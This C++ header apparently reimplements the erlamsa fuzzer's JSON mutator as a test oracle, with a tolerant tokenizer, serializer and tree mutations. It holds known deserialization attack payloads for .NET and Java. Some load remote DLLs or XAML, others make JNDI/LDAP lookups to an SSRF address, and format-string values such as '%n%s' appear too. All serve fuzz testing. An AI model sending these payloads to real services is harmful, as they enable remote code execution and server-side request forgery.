// ORACLE (test infrastructure only -- never linked into the product path).
// Restatement of erlamsa_json (src/erlamsa_json.erl): the tolerant tokenizer (:82-204), the folder (:249-287),
// the numbered walks / selects (:297-470) and the mutation (:525-731). The module leans on Erlang term shapes
// (a pair's value may be one element or a list of them; lists are transparent to the walks), so the AST is kept
// as generic terms. Included at the end of mutations.hpp.
//
// List accumulators that the reference builds by prepending and reverses at the end are std::vectors in
// chronological order here (push_back == prepend).
#pragma once
#include <memory>
#include <functional>

namespace eo {
namespace json {

struct Term;
using TP = std::shared_ptr<const Term>;
using Vec = std::vector<TP>;
struct Term { enum K { ATOM, STR, TUPLE, LIST } k; std::string s; Vec v; };
inline TP atom(const std::string& a) { auto t = std::make_shared<Term>(); t->k = Term::ATOM; t->s = a; return t; }
inline TP str(const std::string& a) { auto t = std::make_shared<Term>(); t->k = Term::STR; t->s = a; return t; }
inline TP tuple(Vec v) { auto t = std::make_shared<Term>(); t->k = Term::TUPLE; t->v = std::move(v); return t; }
inline TP list(Vec v) { auto t = std::make_shared<Term>(); t->k = Term::LIST; t->v = std::move(v); return t; }
inline TP tag2(const char* a, TP x) { return tuple({atom(a), std::move(x)}); }
inline bool is_tuple(const TP& t, const char* a, size_t arity) { return t->k == Term::TUPLE && t->v.size() == arity && t->v[0]->k == Term::ATOM && t->v[0]->s == a; }
inline bool is_container(const TP& t) { return is_tuple(t, "object", 2) || is_tuple(t, "array", 2); }
inline bool is_list(const TP& t) { return t->k == Term::LIST; }
inline TP uncons1(Vec v) { return v.size() == 1 ? v[0] : list(std::move(v)); }   // walk_uncons1(walk_reverse(_)) :293-295

// ---------------------------------------------------------------- tokenizer :82-204
struct Ctx { enum K { ARRAY, ELEMENTS, OBJECT, MEMBERS, PAIR, PAIR_DELIM, VALUE, ARRAY_END, OBJECT_END, PAIR_START, PAIR_END } k; Vec lst; TP key; };
struct JsonThrow {};   // throw(incorrect_json)

inline Vec tokenize(const Bin& S) {
    const size_t n = S.size();
    std::vector<Ctx> cx;   // back() == head of the Erlang context list
    cx.push_back({Ctx::VALUE, {}, nullptr});
    Vec acc;               // chronological; the reference reverses the prepended Acc at :83
    size_t i = 0;
    auto notsep = [](uint8_t c) { return c != ' ' && c != '\n' && c != '\r' && c != '\t' && c != ',' && c != ']' && c != '}' && c != ':'; };
    auto starts = [&](const char* lit) { size_t l = strlen(lit); return i + l <= n && S.compare(i, l, lit) == 0; };
    // push/4 :160-176; returns normally and the caller falls back into ws/3
    std::function<void(TP)> push = [&](TP value) {
        for (;;) {
            if (cx.empty()) { acc.push_back(value); return; }
            Ctx& h = cx.back();
            if (h.k == Ctx::ELEMENTS || h.k == Ctx::MEMBERS) { h.lst.push_back(value); return; }
            if (h.k == Ctx::PAIR_DELIM) { cx.pop_back(); cx.push_back({Ctx::PAIR_START, {}, value}); cx.push_back({Ctx::PAIR_DELIM, {}, nullptr}); return; }
            if (h.k == Ctx::PAIR_END && cx.size() >= 2 && cx[cx.size() - 2].k == Ctx::PAIR_START) {
                TP key = cx[cx.size() - 2].key; cx.pop_back(); cx.pop_back();
                value = tuple({atom("pair"), key, value}); continue;
            }
            throw JsonThrow{};
        }
    };
    for (;;) {
        // ws/3 :85-103
        while (i < n && (S[i] == '\t' || S[i] == '\n' || S[i] == '\r' || S[i] == ' ')) i++;
        if (i >= n) return acc;
        if (cx.empty()) throw JsonThrow{};
        const Ctx::K topk = cx.back().k;
        bool want_value = false;
        switch (topk) {
        case Ctx::ARRAY:                                                      // array/3 :124-129
            cx.back().k = Ctx::ARRAY_END;
            if (S[i] == ']') { i++; cx.pop_back(); push(tag2("array", list({}))); continue; }
            cx.push_back({Ctx::ELEMENTS, {}, nullptr}); cx.push_back({Ctx::VALUE, {}, nullptr}); continue;
        case Ctx::ELEMENTS:                                                   // elements/4 :131-138 (the list stays on the stack between elements)
            if (S[i] == ']' && cx.size() >= 2 && cx[cx.size() - 2].k == Ctx::ARRAY_END) { i++; Vec l = std::move(cx.back().lst); cx.pop_back(); cx.pop_back(); push(tag2("array", list(std::move(l)))); continue; }
            if (S[i] == ',') { i++; cx.push_back({Ctx::VALUE, {}, nullptr}); continue; }
            throw JsonThrow{};
        case Ctx::OBJECT:                                                     // object/3 :141-146
            cx.back().k = Ctx::OBJECT_END;
            if (S[i] == '}') { i++; cx.pop_back(); push(tag2("object", list({}))); continue; }
            cx.push_back({Ctx::MEMBERS, {}, nullptr}); cx.push_back({Ctx::PAIR, {}, nullptr}); continue;
        case Ctx::MEMBERS:                                                    // members/4 :148-156
            if (S[i] == '}' && cx.size() >= 2 && cx[cx.size() - 2].k == Ctx::OBJECT_END) { i++; Vec l = std::move(cx.back().lst); cx.pop_back(); cx.pop_back(); push(tag2("object", list(std::move(l)))); continue; }
            if (S[i] == ',') { i++; cx.push_back({Ctx::PAIR, {}, nullptr}); continue; }
            throw JsonThrow{};
        case Ctx::PAIR:                                                       // pair/3 :158-164 called with the head popped
            cx.pop_back();
            if (S[i] == ':' && !cx.empty() && cx.back().k == Ctx::PAIR_DELIM) { i++; cx.back().k = Ctx::PAIR_END; cx.push_back({Ctx::VALUE, {}, nullptr}); continue; }
            cx.push_back({Ctx::PAIR_DELIM, {}, nullptr}); cx.push_back({Ctx::VALUE, {}, nullptr}); continue;
        case Ctx::PAIR_DELIM:                                                 // pair/3 called with pair_delim still on top
            if (S[i] == ':') { i++; cx.back().k = Ctx::PAIR_END; cx.push_back({Ctx::VALUE, {}, nullptr}); continue; }
            cx.push_back({Ctx::PAIR_DELIM, {}, nullptr}); cx.push_back({Ctx::VALUE, {}, nullptr}); continue;
        case Ctx::VALUE: cx.pop_back(); want_value = true; break;
        default: throw CaseDied("json ws: case_clause");
        }
        if (!want_value) continue;
        // value/3 :105-121
        if (S[i] == '[') { i++; cx.push_back({Ctx::ARRAY, {}, nullptr}); continue; }
        if (S[i] == '{') { i++; cx.push_back({Ctx::OBJECT, {}, nullptr}); continue; }
        if (starts("true")) { i += 4; push(tag2("constant", atom("true"))); continue; }
        if (starts("false")) { i += 5; push(tag2("constant", atom("false"))); continue; }
        if (starts("null")) { i += 4; push(tag2("constant", atom("null"))); continue; }
        if (S[i] == '"') {                                                    // string/4 :181-186
            size_t q = S.find('"', i + 1);
            if (q == Bin::npos) { std::string js = S.substr(i + 1); js.push_back('"'); i = n; push(tag2("junkstring", str(js))); continue; }
            std::string v = S.substr(i + 1, q - i - 1); i = q + 1; push(tag2("string", str(v))); continue;
        }
        if (!notsep((uint8_t)S[i])) throw JsonThrow{};                        // number/3 :188-190
        size_t j = i; while (j < n && notsep((uint8_t)S[j])) j++;             // number_rest/4 :192-195
        std::string num = S.substr(i, j - i); i = j; push(tag2("number", str(num)));
    }
}

// ---------------------------------------------------------------- folder :249-287
inline std::string fold(const TP& t);
inline std::string fold_join(const Vec& v) { std::string o; for (size_t i = 0; i < v.size(); i++) { if (i) o += ","; o += fold(v[i]); } return o; }   // fold_list :54-61
inline std::string fold_noarray(const TP& t) { if (is_list(t) && t->v.size() > 1) return fold_join(t->v); return fold(t); }   // :251-255
inline std::string fold(const TP& t) {
    if (is_list(t)) {
        if (t->v.size() == 1) return fold(t->v[0]);
        if (t->v.empty()) return "";
        return "[" + fold_join(t->v) + "]";
    }
    if (t->k == Term::STR) {                        // a bare char list: [] / [H] / longer follow the list clauses
        if (t->s.empty()) return "";
        throw CaseDied("json fold_ast: function_clause");
    }
    if (is_tuple(t, "pair", 3)) return fold(t->v[1]) + ":" + fold(t->v[2]);
    if (is_tuple(t, "junkstring", 2) || is_tuple(t, "string", 2)) return "\"" + t->v[1]->s + "\"";
    if (is_tuple(t, "constant", 2) && t->v[1]->k == Term::ATOM) return t->v[1]->s;
    if (is_tuple(t, "number", 2)) return t->v[1]->s;
    if (is_tuple(t, "object", 2)) return "{" + fold_noarray(t->v[1]) + "}";
    if (is_tuple(t, "array", 2)) return "[" + fold_noarray(t->v[1]) + "]";
    throw CaseDied("json fold_ast: function_clause");
}

// ---------------------------------------------------------------- walks :297-345
// fun(elem, acc, container_no, elem_no) appends to acc. mode_all: keys are walked (and numbered) too.
using WalkFun = std::function<void(const TP&, Vec&, long, long)>;
inline void walk_el(bool all, const TP& el, const WalkFun& fun, Vec& acc, long& ct, long& c) {
    if (is_container(el)) {
        long myct = ++ct, myc = ++c; Vec child;
        walk_el(all, el->v[1], fun, child, ct, c);
        fun(tuple({el->v[0], list(child)}), acc, myct, myc);
    } else if (is_tuple(el, "pair", 3)) {
        long myct = ct, myc = ++c;
        TP k = el->v[1];
        if (all) { Vec c1; walk_el(all, el->v[1], fun, c1, ct, c); k = uncons1(c1); }
        Vec c2; walk_el(all, el->v[2], fun, c2, ct, c);
        fun(tuple({el->v[0], k, uncons1(c2)}), acc, myct, myc);
    } else if (is_list(el)) {
        for (const TP& e : el->v) walk_el(all, e, fun, acc, ct, c);
    } else if (el->k == Term::STR) {
        if (!el->s.empty()) throw Unsupported("json walk over a bare character list");
    } else { ++c; fun(el, acc, ct, c); }
}
inline Vec walk(bool all, const Vec& ast, const WalkFun& fun) { Vec acc; long ct = 0, c = 0; walk_el(all, list(ast), fun, acc, ct, c); return acc; }

// count/1 :409-420 -> {NV, NT, N}
struct Counts { long nv = 0, nt = 0, n = 0; };
inline long count_el(const TP& el, long& ct, long& c) {   // returns the numeric accumulator contribution
    if (is_container(el)) { ++ct; ++c; long ch = count_el(el->v[1], ct, c); return ch + 1; }
    if (is_tuple(el, "pair", 3)) { ++c; (void)count_el(el->v[1], ct, c); long c2 = count_el(el->v[2], ct, c); return c2 + 1; }
    if (is_list(el)) { long s = 0; for (const TP& e : el->v) s += count_el(e, ct, c); return s; }
    if (el->k == Term::STR) { if (!el->s.empty()) throw Unsupported("json count over a bare character list"); return 0; }
    ++c; return 1;
}
inline Counts count(const Vec& ast) { Counts k; k.nv = count_el(list(ast), k.nt, k.n); return k; }

// select/3 :347-399. want_ct: container number (select_tag), want_c: element number (select_elem)
struct Sel { TP elem; long ct = 0, c = 0; };
inline bool select_el(bool all, const TP& el, long want_ct, long want_c, long& ct, long& c, Sel& out) {
    if (is_container(el)) {
        long myct = ++ct, myc = ++c;
        if ((want_ct && myct == want_ct) || (want_c && myc == want_c)) { out.elem = el; out.ct = myct; out.c = myc; return true; }
        return select_el(all, el->v[1], want_ct, want_c, ct, c, out);
    }
    if (is_tuple(el, "pair", 3)) {
        long myc = ++c;
        if (want_c && myc == want_c) { out.elem = el; out.ct = ct; out.c = myc; return true; }
        if (all && select_el(all, el->v[1], want_ct, want_c, ct, c, out)) return true;
        return select_el(all, el->v[2], want_ct, want_c, ct, c, out);
    }
    if (is_list(el)) { for (const TP& e : el->v) if (select_el(all, e, want_ct, want_c, ct, c, out)) return true; return false; }
    if (el->k == Term::STR) { if (!el->s.empty()) throw Unsupported("json select over a bare character list"); return false; }
    ++c;
    if (want_c && c == want_c) { out.elem = el; out.ct = ct; out.c = c; return true; }
    return false;
}
inline Sel select_elem(bool all, const Vec& ast, long n) { Sel s; long ct = 0, c = 0; if (!select_el(all, list(ast), 0, n, ct, c, s)) throw CaseDied("json select_elem: badmatch"); return s; }
inline Sel select_tag(const Vec& ast, long n) { Sel s; long ct = 0, c = 0; if (!select_el(true, list(ast), n, 0, ct, c, s)) throw CaseDied("json select_tag: badmatch"); return s; }

inline Vec replace_elem(const Vec& ast, long r, const TP& el) { return walk(true, ast, [&](const TP& e, Vec& acc, long, long i) { acc.push_back(i == r ? el : e); }); }                                  // :432-440
inline Vec repeat_elem(const Vec& ast, long r, long times) { return walk(false, ast, [&](const TP& e, Vec& acc, long, long i) { acc.push_back(e); if (i == r) for (long k = 0; k < times; k++) acc.push_back(e); }); }   // :447-455
inline Vec insert_elem(const Vec& ast, long r, const TP& ne) { return walk(false, ast, [&](const TP& e, Vec& acc, long, long i) { acc.push_back(e); if (i == r) acc.push_back(ne); }); }                  // :457-465
inline TP pump_path(TP start, long end, long n) {                                                                                                                                                         // :538-551
    for (; n > 0; n--) {
        Vec pumped = walk(true, Vec{start}, [&](const TP& e, Vec& acc, long, long i) { acc.push_back(i == end ? start : e); });
        if (pumped.empty()) throw CaseDied("json pump_path: hd([])");
        start = pumped[0]; end = end * 2 - 1;
    }
    return start;
}

// json_unserialize_bugs/0 :604-613 (payload templates; ~s takes the SSRF uri)
struct Payload { const char* fmt; int repeats; };
static const Payload UNSERIALIZE[6] = {
    {"{\"__type\":\"System.Windows.Application, PresentationFramework,Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"Resources\":{\"__type\":\"System.Windows.ResourceDictionary,PresentationFramework, Version=4.0.0.0, Culture=neutral,PublicKeyToken=31bf3856ad364e35\",\"Source\":\"http~sJsonDotNet/Xamlpayload\"}}", 1},
    {"{\"$type\":\"System.Configuration.Install.AssemblyInstaller,System.Configuration.Install, Version=4.0.0.0, Culture=neutral,PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}", 1},
    {"{\"$type\":\"System.Windows.Forms.BindingSource, System.Windows.Forms,Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\",\"DataMember\":\"HelpText\",\"dataSource\":{\"$type\":\"System.Configuration.Install.AssemblyInstalle r, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}}", 1},
    {"{\"@class\":\"org.hibernate.jmx.StatisticsService\",\"sessionFactoryJNDIName\":\"ldap~suid=somename,ou=someou,dc=somedc\"}", 1},
    {"{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\":\"ldap:~suid=somename,ou=someou,dc=somed c\", \"autoCommit\":true}", 1},
    {"{\"@class\":\" com.atomikos.icatch.jta.RemoteClientUserTransaction\", \"name_\":\"ldap~suid=somename,ou=someou,dc=somedc\", \"providerUrl_\":\"ldap~s\"}", 2},
};

}  // namespace json

// ---------------------------------------------------------------- mutation :525-731
inline MutRes Mutations::json_mutate(const Blocks& ll) {
    using namespace json;
    MutRes r; r.ll = ll; r.delta = -1;
    const Bin& h = ll[0];
    Vec ast;
    try { ast = tokenize(h); } catch (const JsonThrow&) { return r; }                    // :728-730
    Counts k = count(ast);
    const long N = k.n, NT = k.nt, NV = k.nv;
    double d = -1; Vec res = ast; bool have_bin = false; Bin binres;
    long which;
    if (NT == 0 && N < 2) {                                                              // :645-650
        uint64_t e = rng.erand(7);
        if (e == 4 && N == 1) which = (long)rng.rand(8); else which = -1;
    } else which = (long)rng.rand(21);
    if (which >= 0) {
        switch (which) {
        case 0: {                                                                        // json_swap :573-586
            long r1 = (long)rng.erand((uint64_t)NV), r2 = (long)rng.erand((uint64_t)NV);
            TP e1 = select_elem(false, ast, r1).elem, e2 = select_elem(false, ast, r2).elem;
            res = walk(false, ast, [&](const TP& e, Vec& acc, long, long i) { acc.push_back(i == r1 ? e2 : i == r2 ? e1 : e); });
            d = 1; break;
        }
        case 1: { long rr = (long)rng.erand((uint64_t)NV); res = repeat_elem(ast, rr, 1); d = 1; break; }                                   // json_dup :565-567
        case 2: {                                                                        // json_pump :554-563
            d = -2;
            if (NT == 0) break;
            long rr = (long)rng.erand((uint64_t)NT);
            Sel s = select_tag(ast, rr);
            Counts sub = count(Vec{s.elem});
            long e = (long)rng.erand((uint64_t)(sub.n - 1)) + 1;
            res = replace_elem(ast, s.c, pump_path(s.elem, e, 2));
            break;
        }
        case 3: { long rr = (long)rng.erand((uint64_t)NV); long times = (long)rng.erand(100); res = repeat_elem(ast, rr, times); d = 1; break; }   // json_repeat :569-571
        case 4: {                                                                        // json_insert :588-592
            long r1 = (long)rng.erand((uint64_t)NV), r2 = (long)rng.erand((uint64_t)NV);
            res = insert_elem(ast, r2, select_elem(false, ast, r1).elem);
            d = 1; break;
        }
        case 5: {                                                                        // make_json_unserialize :615-618
            std::string uri = ssrf_uri();
            const Payload& p = UNSERIALIZE[rng.rand_elem_idx(6)];
            std::string f = p.fmt, o; size_t pos = 0;
            for (;;) { size_t q = f.find("~s", pos); if (q == std::string::npos) { o += f.substr(pos); break; } o += f.substr(pos, q - pos); o += uri; pos = q + 2; }
            have_bin = true; binres = o; d = -2; break;
        }
        default: {                                                                       // inner text :670-718
            std::unique_ptr<Mutations> im; Opts o2; std::vector<MutNode> nodes;
            inner_muta({M_AB, M_AD, M_B64, M_NUM, M_SD, M_SP, M_SR, M_URI, M_SGM}, im, o2, nodes);
            auto text_prob = [&](const std::string& s, double prob) -> std::string {     // mutate_innertext_prob/4 :620-627
                double rnd = rng.rand_float();
                if (rnd > prob) return s;
                return inner_round(*im, nodes, s);
            };
            std::function<void(const TP&, Vec&)> w2 = [&](const TP& el, Vec& acc) {      // walk2acc :316-345 with the fun of :672-714
                if (is_container(el)) { Vec child; w2(el->v[1], child); acc.push_back(tuple({el->v[0], list(child)})); return; }
                if (is_tuple(el, "pair", 3)) {
                    TP kk;
                    if (is_tuple(el->v[1], "string", 2)) kk = tag2("string", str(text_prob(el->v[1]->v[1]->s, 0.6 / (double)N)));
                    else { Vec c1; w2(el->v[1], c1); kk = uncons1(c1); }
                    Vec c2; w2(el->v[2], c2);
                    acc.push_back(tuple({el->v[0], kk, uncons1(c2)})); return;
                }
                if (is_list(el)) { for (const TP& e : el->v) w2(e, acc); return; }
                if (el->k == json::Term::STR) { if (!el->s.empty()) throw Unsupported("json walk2acc over a bare character list"); return; }
                if (is_tuple(el, "string", 2)) { acc.push_back(tag2("string", str(text_prob(el->v[1]->s, 3.0 / (double)N)))); return; }
                if (is_tuple(el, "constant", 2) && el->v[1]->s == "null") {              // mutate_null/2 :640-643
                    double rnd = rng.rand_float();
                    if (rnd >= 3.0 / (double)N) { acc.push_back(el); return; }
                    switch (rng.rand_elem_idx(7)) {
                    case 0: acc.push_back(tag2("number", str("-1"))); break;
                    case 1: acc.push_back(tag2("number", str("1000000000"))); break;
                    case 2: acc.push_back(tag2("constant", atom("true"))); break;
                    case 3: acc.push_back(tag2("array", list({}))); break;
                    case 4: acc.push_back(tag2("string", str("%n%s"))); break;
                    case 5: acc.push_back(tag2("number", str("0"))); break;
                    default: acc.push_back(tag2("string", str("AAAAAAAAAAAA"))); break;
                    }
                    return;
                }
                if (is_tuple(el, "constant", 2)) {                                       // basic_type_mutation(Boolean, Prob), src/erlamsa_mutations.erl:1211-1221
                    double rnd = rng.rand_float();
                    if (rnd >= 3.0 / (double)N) { acc.push_back(el); return; }
                    const std::string& b = el->v[1]->s;
                    acc.push_back(tag2("constant", atom(b == "true" ? "false" : b == "false" ? "true" : b))); return;
                }
                if (is_tuple(el, "number", 2)) {                                         // :700-709
                    const std::string& t = el->v[1]->s; size_t p = 0; bool neg = false;
                    if (p < t.size() && (t[p] == '+' || t[p] == '-')) { neg = t[p] == '-'; p++; }
                    bool ok = p < t.size();
                    for (size_t q = p; q < t.size(); q++) if (t[q] < '0' || t[q] > '9') ok = false;
                    if (!ok) { acc.push_back(el); return; }                              // list_to_integer: badarg
                    double rnd = rng.rand_float();
                    if (rnd >= 3.0 / (double)N) { acc.push_back(el); return; }
                    BigInt num = BigInt::from_decimal(t.substr(p), neg);
                    BigInt nn = mutate_num(num);
                    if (nn.to_string() == num.to_string()) { acc.push_back(el); return; }
                    acc.push_back(tag2("number", str(nn.to_string()))); return;
                }
                acc.push_back(el);
            };
            Vec out; w2(list(ast), out); res = out; d = 1; break;
        }
        }
    }
    Bin nb = have_bin ? binres : Bin(fold(list(res)));                                   // fold_ast/1 :283-287
    if (nb == h) { r.delta = -1; return r; }
    r.ll[0] = nb; r.delta = d + std::trunc((double)nb.size() / (double)(AVG_BLOCK_SIZE * 10));
    return r;
}

}  // namespace eo
